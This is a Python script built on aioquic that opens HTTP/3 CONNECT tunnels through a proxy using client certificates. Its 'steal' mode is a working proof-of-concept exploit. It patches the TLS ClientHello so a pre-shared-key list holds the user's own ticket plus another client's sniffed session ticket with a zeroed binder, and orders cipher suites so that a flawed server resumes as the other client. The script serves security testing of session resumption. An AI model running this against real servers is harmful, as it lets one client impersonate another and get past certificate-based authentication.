"""Clients on aioquic that are known by their certificates, and resume sessions, in which they show none.

    aioquic_session.py resume HOST:PORT CA AUTHORITY CERTIFICATE KEY
        three times with one identity
    aioquic_session.py steal HOST:PORT CA AUTHORITY CERTIFICATE KEY OTHERS-CERTIFICATE OTHERS-KEY
        the others once; then ours; then ours with a ClientHello that holds our ticket and, behind it, the others', which
        whoever sees their packets can read

Each time connects over HTTP/3, asks for a tunnel to AUTHORITY, and prints the status and "full" or "resumed".
"""
import asyncio
import sys

from aioquic import tls
from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.h3.events import HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import HandshakeCompleted

AES256, CHACHA20 = tls.CipherSuite.AES_256_GCM_SHA384, tls.CipherSuite.CHACHA20_POLY1305_SHA256


class Asking(QuicConnectionProtocol):
    def __init__(self, *arguments, **more):
        super().__init__(*arguments, **more)
        self.http = H3Connection(self._quic)
        self.status = asyncio.get_running_loop().create_future()
        self.resumed = None

    def quic_event_received(self, event):
        if isinstance(event, HandshakeCompleted):
            self.resumed = event.session_resumed
        for got in self.http.handle_event(event):
            if isinstance(got, HeadersReceived) and not self.status.done():
                self.status.set_result(int(dict(got.headers)[b":status"]))

    def ask(self, authority):
        headers = [(b":method", b"CONNECT"), (b":authority", authority.encode())]
        self.http.send_headers(self._quic.get_next_available_stream_id(), headers)
        self.transmit()


class Client:
    def __init__(self, proxy, ca, authority):
        self.host, self.port = proxy.rsplit(":", 1)
        self.ca, self.authority = ca, authority

    async def visit(self, identity, ticket=None, suites=None):
        """The ticket that it gets."""
        tickets = asyncio.Queue()
        settings = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name=self.host,
                                     session_ticket=ticket, cipher_suites=suites)
        settings.load_verify_locations(self.ca)
        settings.load_cert_chain(*identity)
        async with connect(self.host, int(self.port), configuration=settings, create_protocol=Asking,
                           session_ticket_handler=tickets.put_nowait) as client:
            await client.wait_connected()
            client.ask(self.authority)
            print(await client.status, "resumed" if client.resumed else "full", flush=True)
            return await tickets.get()


def add_ticket(own, other):
    """From now on a ClientHello with OWN has OTHER behind it, with a binder that is none (RFC 8446 4.2.11)."""
    push, binder_length = tls.push_client_hello, 48

    def push_both(buf, hello):
        hello.pre_shared_key.identities.append((other.ticket, other.obfuscated_age))
        hello.pre_shared_key.binders.append(bytes(binder_length))
        start = buf.tell()
        push(buf, hello)
        end = buf.tell()
        binders = end - 2 - 2 * (1 + binder_length)
        schedule = tls.KeySchedule(own.cipher_suite)
        schedule.extract(own.resumption_secret)
        key = schedule.derive_secret(b"res binder")
        schedule.update_hash(buf.data_slice(start, binders))
        buf.seek(binders + 3)
        buf.push_bytes(schedule.finished_verify_data(key))
        buf.seek(end)

    tls.push_client_hello = push_both


async def resume(client, *identity):
    ticket = None
    for _ in range(3):
        ticket = await client.visit(identity, ticket)


async def steal(client, certificate, key, *others):
    other = await client.visit(others)
    own = await client.visit((certificate, key), suites=[AES256])
    add_ticket(own, other)
    # The others' is of AES-128. With ChaCha20, which is asked first, none fits; then ours does, when both were opened.
    await client.visit((certificate, key), own, suites=[CHACHA20, AES256])


async def main(way, proxy, ca, authority, *identities):
    await {"resume": resume, "steal": steal}[way](Client(proxy, ca, authority), *identities)


asyncio.run(asyncio.wait_for(main(*sys.argv[1:]), 60))
